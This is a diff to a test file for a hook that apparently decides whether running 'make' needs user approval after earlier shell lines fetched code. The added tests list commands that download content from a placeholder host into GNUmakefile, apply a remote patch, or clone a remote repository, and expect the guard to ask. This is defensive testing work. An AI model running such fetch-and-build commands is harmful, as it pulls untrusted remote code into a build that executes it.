@@ -205,8 +205,8 @@ test('hooks at once: one of them fixes the root of their session, and nothing th
   const { length } = openProjectState(env).fetched();
   const decisions = await Promise.all(PACKAGES.map((name) => hook('make', at(`home/work/${name}`), env)));
   expect(decisions.filter(({ decision }) => decision === 'allow')).toHaveLength(1);
-  // Each hook remembers what lies in the root: that of one of them.
-  expect(length).toBe(1);
+  // Here the home lies among temporary files, in which all that is fetched counts.
+  expect(length).toBe(PACKAGES.length);
 });
 
 test('hooks at once in one project: nothing that they fetch is forgotten', async () => {
@@ -269,4 +269,21 @@ test('a session without an id has no project but a trusted one', async () => {
   expect((await hook('make', at('home/work'), env, '')).reason).toContain('which nobody has trusted yet');
   openProjectState(env).trust(at('home/work'));
   expect((await hook('make', at('home/work'), env, '')).decision).toBe('allow');
+});
+
+test.each([
+  ['curl -s https://h.example/x | tee GNUmakefile', 'GNUmakefile'],
+  ['x=$(curl -s https://h.example/x); echo "$x" > GNUmakefile', 'GNUmakefile'],
+  ['{ curl -s https://h.example/x; } > GNUmakefile', 'GNUmakefile'],
+  ["curl -s https://h.example/x | sed -n 'w GNUmakefile'", 'GNUmakefile'],
+  ['curl -s https://h.example/x.patch | git apply', '.'],
+  ['git clone https://h.example/x tests/v', 'tests/v'],
+  ['git fetch x.bundle main', '.'],
+])('after %s the code of the project asks', async (line, made) => {
+  const { at, env } = await prepare();
+  expect((await hook(line, at('home/work'), env)).decision).toBe('allow');
+  if (made !== '.') writeFileSync(at(`home/work/${made.replace('tests/v', 'v')}`), 'x');
+  mkdirSync(at('home/work/tests/v'), { recursive: true });
+  const { decision, reason } = await hook('make', at('home/work'), env);
+  expect([decision, reason]).toStrictEqual(['ask', expect.stringContaining('an earlier line fetched')]);
 });
